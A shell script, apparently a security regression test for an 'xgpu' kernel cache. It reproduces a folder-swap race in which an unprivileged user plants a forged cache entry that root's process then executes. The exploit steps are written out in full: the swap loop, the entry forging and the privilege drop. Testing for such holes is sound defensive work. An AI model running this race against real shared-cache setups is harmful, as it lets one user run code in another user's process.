#!/bin/sh
# The cache checks its folder once per build (lstat: owner, mode), then
# opens, renames and unlinks entries by path. A folder whose parent another
# user may write to can be swapped between the check and the use: here
# user `nobody` owns /tmp/xgpu-shared, the victim (root) uses
# XGPU_CACHE_DIR=/tmp/xgpu-shared/xgpu (its own, 0700, accepted), and
# nobody swaps it with a folder of theirs holding an entry under the
# victim's key whose payload is another program's binary. The victim's
# kernel then computes what the attacker wrote (with pocl, the payload is
# host machine code run in the victim's process).
# Exit 0 when no run was wrong.
set -u
here=$(cd "$(dirname "$0")" && pwd)
gcc -O2 -o /tmp/xgpu-swap-loop "$here/swap_loop.c" || exit 2
export LSAN_OPTIONS=suppressions=$here/../.ci/lsan.supp:print_suppressions=0
p=/tmp/xgpu-shared
rm -rf "$p" /tmp/xgpu-attacker; mkdir -p "$p" /tmp/xgpu-attacker/own /tmp/xgpu-attacker/evil
chown nobody "$p"; chmod 0755 "$p"
# The victim's first run makes its folder and stores the real entry.
XGPU_CACHE_DIR=$p/xgpu "$here/bin/swap_victim" 1 || exit 2
# The attacker learns the key by building the same (public) source in a
# cache of their own; the key has no user in it. (Run as root here only
# because the ASan build is not readable by nobody; nothing of the
# victim's is read.)
out=$(XGPU_CACHE_DIR=/tmp/xgpu-attacker/own EVIL_BUILD_DIR=/tmp/xgpu-attacker/evil \
      "$here/bin/swap_attacker_build") || exit 2
key_entry=$(echo "$out" | sed -n 1p); other=$(echo "$out" | sed -n 2p)
setpriv --reuid=nobody --regid=nogroup --clear-groups sh -c "mkdir -m 0755 $p/evil" || exit 2
python3 "$here/swap_forge.py" "$key_entry" "$other" "/tmp/xgpu-forged.xkc"
setpriv --reuid=nobody --regid=nogroup --clear-groups \
  sh -c "cp /tmp/xgpu-forged.xkc $p/evil/$(basename "$key_entry") && chmod 0644 $p/evil/*" || exit 2
echo "victim's entry and the forged one: $(basename "$key_entry")"
setpriv --reuid=nobody --regid=nogroup --clear-groups \
  /tmp/xgpu-swap-loop "$p/xgpu" "$p/evil" &
swapper=$!
sleep 0.2
res=$(XGPU_CACHE_DIR=$p/xgpu "$here/bin/swap_victim" 300 2>/dev/null)
kill "$swapper"
echo "victim: $res"
case "$res" in *"wrong=0 "*) exit 0;; *) exit 1;; esac
